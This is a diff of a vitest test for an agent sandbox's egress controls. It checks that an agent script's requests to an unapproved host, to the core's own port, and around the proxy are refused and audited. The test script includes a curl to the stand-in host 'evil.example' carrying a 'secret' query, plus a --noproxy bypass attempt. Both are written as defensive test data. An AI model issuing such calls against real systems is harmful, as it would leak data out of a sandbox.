@@ -6,10 +6,13 @@ import { once } from "node:events";
 import { createServer as createHttp } from "node:http";
 import { networkInterfaces } from "node:os";
 import type { AddressInfo } from "node:net";
-import { describe, expect, onTestFinished, test } from "vitest";
+import { afterAll, beforeAll, describe, expect, onTestFinished, test } from "vitest";
 import { proxyVariables } from "../../packages/core/src/launcher/proxy-variables.ts";
 import { startBoxed, type BoxedProcess } from "../../packages/core/src/sandbox/sandbox.ts";
+import { auditRows } from "../support/audit-rows.ts";
 import { folder, namespace, newMarker, PATH } from "../support/boxes.ts";
+import { type CoreHome, eventually, newHome } from "../support/core-home.ts";
+import { smallAgentAt } from "../support/small-agent.ts";
 import { echoServer, listening, makeEgress, RUN_ID, type WayOutOptions } from "../support/way-out.ts";
 
 const AGENT_ID = "com.example.reacher";
@@ -145,5 +148,58 @@ describe("a box with a way out", () => {
     });
     expect(JSON.parse(output)).toMatchObject({ error: { code: "egress.not_approved" } });
     expect(inner.connections()).toBe(0);
+  });
+});
+
+describe("a run with network:egress, from the command line on", () => {
+  let home: CoreHome;
+  beforeAll(async () => {
+    home = await newHome();
+    await home.json(["core", "start"]);
+  });
+  afterAll(() => home.dispose());
+
+  test("reaches the approved host, is told the truth, and what it may not is on record", async () => {
+    const server = await echoServer();
+    const url = `http://127.0.0.1:${server.port}/path?query=secret`;
+    const status = await home.json<{ web_url: string }>(["core", "status"]);
+    const page = Number(new URL(status.web_url).port);
+    const permissions = [`network:egress:127.0.0.1:${server.port}`, `network:egress:127.0.0.1:${page}`];
+    const script = [
+      "#!/bin/sh",
+      `curl -s '${url}'; echo " $?"`,
+      `curl -s 'http://evil.example/path?query=secret' | grep -o 'egress[.][a-z_]*'`,
+      `curl -s 'http://127.0.0.1:${page}/' | grep -o 'egress[.][a-z_]*'`,
+      `curl -s --noproxy '*' -m 5 '${url}'; echo "direct $?"`,
+      "env | grep -c NODE_CHANNEL",
+      // SIGTERM comes to every member of the tree, so to what the handler starts as well.
+      'trap \'trap "" TERM; curl -s $URL; echo " in its grace"; exit 0\' TERM',
+      "echo ready; while :; do sleep 0.05; done",
+    ];
+    const text = script.join("\n").replace("$URL", url);
+    await smallAgentAt(home, "com.example.reacher", "running", { permissions }, { "bin/agent": { text, mode: 0o755 } });
+    const lines = async (): Promise<string[]> =>
+      (await home.jsonLines<{ line: string }>(["agents", "logs", "com.example.reacher"])).map(({ line }) => line);
+    await eventually(async () => ((await lines()).includes("ready") ? true : undefined), "the end of its requests");
+    const info = await home.json<Record<string, unknown>>(["agents", "info", "com.example.reacher"]);
+    expect(JSON.stringify(info)).toContain('"brokered"');
+    const stopped = await home.json<Record<string, unknown>>(["agents", "stop", "com.example.reacher"]);
+    expect(stopped).toMatchObject({ exit_code: 0 });
+    // What the shell says of its own child.
+    expect((await lines()).filter((line) => line !== "Terminated")).toEqual([
+      "ok 0",
+      "egress.not_approved",
+      "egress.core_port",
+      "direct 7",
+      "0",
+      "ready",
+      "ok in its grace",
+    ]);
+    const refused = auditRows(home, "security.egress_refused").map(({ metadata }) => metadata);
+    expect(refused).toEqual([
+      { agent_id: AGENT_ID, host: "evil.example", port: 80, code: "egress.not_approved" },
+      { agent_id: AGENT_ID, host: "127.0.0.1", port: page, code: "egress.core_port" },
+    ]);
+    expect(server.connections()).toBe(2);
   });
 });
